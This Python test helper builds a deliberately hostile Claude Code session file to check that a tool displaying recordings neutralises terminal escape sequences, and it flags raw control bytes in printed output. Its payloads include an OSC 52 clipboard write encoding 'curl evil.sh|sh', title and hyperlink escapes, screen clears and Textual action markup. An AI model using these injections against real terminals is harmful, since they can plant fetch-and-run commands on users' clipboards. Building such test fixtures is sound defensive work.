"""A recording made to attack the terminal it is shown in (issue 29), and how to spot a raw
control character in what a command printed.

The recording is a Claude Code session file: the attacks sit in its first user message (which
becomes the session's title), its assistant text, its model name, a tool's name, a file name
the tool reads, and the tool's result.
"""

from __future__ import annotations

import json
import re
from pathlib import Path

OSC52_CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLnNofHNo\x07"
"""Writes ``curl evil.sh|sh`` (base64) to the clipboard."""
OSC0_TITLE = "\x1b]0;PWNED-TITLE\x07"
"""Sets the window title to ``PWNED-TITLE``."""
OSC8_LINK = "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\"
CSI_CLEAR = "\x1b[2J\x1b[H"
C1_CSI = "\x9b2J"
DEL = "\x7f"
ALL = OSC52_CLIPBOARD + OSC0_TITLE + OSC8_LINK + CSI_CLEAR + C1_CSI + DEL
MARKUP = "[link=https://evil.example]x[/link][@click=app.quit]y[/]"
"""Rich / Textual markup: a title holding it must show it, not make a link or an action."""

ATTACKER_TITLE = "PWNED-TITLE"

# Bytes no terminal may receive from a recording: C0 but tab and newline, DEL, C1 as UTF-8
# (U+0080-U+009F are encoded \xc2\x80-\xc2\x9f) and raw, and the bidi overrides.
_RAW = re.compile(
    rb"[\x00-\x08\x0b-\x1f\x7f]|\xc2[\x80-\x9f]|\xe2\x80[\xaa-\xae]|\xe2\x81[\xa6-\xa9]"
)


def raw_controls(printed: bytes) -> list[bytes]:
    """The raw control characters in ``printed`` (a process' stdout or stderr)."""
    return _RAW.findall(printed)


def write_hostile_recording(path: Path, cwd: str = "/tmp/recorded-folder") -> Path:
    """A Claude Code session file whose every outside string carries the attacks."""
    session = "bad-sess"
    common = {"isSidechain": False, "sessionId": session, "cwd": cwd, "version": "2.0.14"}
    model = f"claude-sonnet-4-5{OSC0_TITLE}"
    tool = f"Read{C1_CSI}{OSC52_CLIPBOARD}"
    file_name = f"/tmp/recorded-folder/notes{OSC8_LINK}{CSI_CLEAR}.txt"
    usage = {"input_tokens": 10, "output_tokens": 5}
    records = [
        {
            "type": "user",
            "uuid": "u1",
            "parentUuid": None,
            "timestamp": "2026-11-02T10:00:00Z",
            "message": {"role": "user", "content": f"{OSC0_TITLE}{MARKUP} fix it {ALL}"},
        },
        {
            "type": "assistant",
            "uuid": "a1",
            "parentUuid": "u1",
            "timestamp": "2026-11-02T10:00:01Z",
            "message": {
                "id": "msg_1",
                "type": "message",
                "role": "assistant",
                "model": model,
                "content": [
                    {"type": "text", "text": f"Reading {ALL} now"},
                    {
                        "type": "tool_use",
                        "id": "toolu_1",
                        "name": tool,
                        "input": {"file_path": file_name},
                    },
                ],
                "usage": usage,
            },
        },
        {
            "type": "user",
            "uuid": "u2",
            "parentUuid": "a1",
            "timestamp": "2026-11-02T10:00:02Z",
            "message": {
                "role": "user",
                "content": [
                    {
                        "type": "tool_result",
                        "tool_use_id": "toolu_1",
                        "content": f"file body {ALL} {MARKUP}",
                    },
                ],
            },
        },
        {
            "type": "assistant",
            "uuid": "a2",
            "parentUuid": "u2",
            "timestamp": "2026-11-02T10:00:03Z",
            "message": {
                "id": "msg_2",
                "type": "message",
                "role": "assistant",
                "model": model,
                "content": [{"type": "text", "text": f"Done {ALL}"}],
                "usage": usage,
            },
        },
    ]
    path.write_text("".join(json.dumps({**common, **r}) + "\n" for r in records), encoding="utf-8")
    return path
